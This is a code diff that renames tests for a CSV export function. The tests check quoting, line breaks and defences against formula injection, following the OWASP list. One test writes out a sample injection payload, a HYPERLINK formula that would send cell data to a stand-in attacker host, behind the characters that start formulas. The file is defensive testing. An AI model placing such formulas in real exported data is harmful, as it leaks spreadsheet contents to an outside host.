@@ -12,7 +12,7 @@ const tableOf = (...texts: Cell[]): Table => ({
 const line = (cell: Cell): string => writeCsv(tableOf(cell), ";").split("\r\n").slice(1).join("\r\n");
 
 describe("a table as CSV", () => {
-  test("has a byte order mark, the names of the columns, and the separators of the language", () => {
+  test("a CSV table has a byte order mark, the names of the columns, and the separators of the language", () => {
     const table: Table = {
       columns: [
         { name: "Judul", kind: "text" },
@@ -32,13 +32,13 @@ describe("a table as CSV", () => {
     );
   });
 
-  test("doubles quotes and keeps line breaks within a cell", () => {
+  test("a CSV table doubles quotes and keeps line breaks within a cell", () => {
     assert.equal(line('Kata "lubang"\nbesar'), '"Kata ""lubang""\nbesar"\r\n');
   });
 
   // The list of OWASP: https://owasp.org/www-community/attacks/CSV_Injection
   for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
-    test(`prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
+    test(`a CSV table prevents a text that begins with ${JSON.stringify(start)} from becoming a formula`, () => {
       for (const before of ["", " ", "\u00A0", "\u200B", "\uFEFF", "\n"]) {
         const text = `${before}${start}HYPERLINK("https://jahat.example?"&A1)`;
         // A line break divides a text as a separator does.
@@ -47,7 +47,7 @@ describe("a table as CSV", () => {
       }
     });
 
-  test("leaves other texts unchanged, also with such a character in the middle", () => {
+  test("a CSV table leaves other texts unchanged, also with such a character in the middle", () => {
     for (const text of [
       "Jalan 2+3",
       "a=b",
@@ -61,7 +61,7 @@ describe("a table as CSV", () => {
       assert.equal(line(text), `"${text}"\r\n`);
   });
 
-  test("prevents a text from starting a new cell with a formula", () => {
+  test("a CSV table prevents a text from starting a new cell with a formula", () => {
     for (const [text, written] of [
       ['";=1+1;"', '";\'=1+1;"'],
       ['",=1+1,"', '",\'=1+1,"'],
@@ -70,7 +70,7 @@ describe("a table as CSV", () => {
       assert.equal(line(text), `"${written.replaceAll('"', '""')}"\r\n`);
   });
 
-  test("lets no text start a formula where a spreadsheet expects another separator", () => {
+  test("a CSV table lets no text start a formula where a spreadsheet expects another separator", () => {
     for (const separator of [",", ";", "\t"])
       for (const space of ["", " ", "\u200B"])
         for (const start of ["=", "+", "-", "@", "＝"]) {
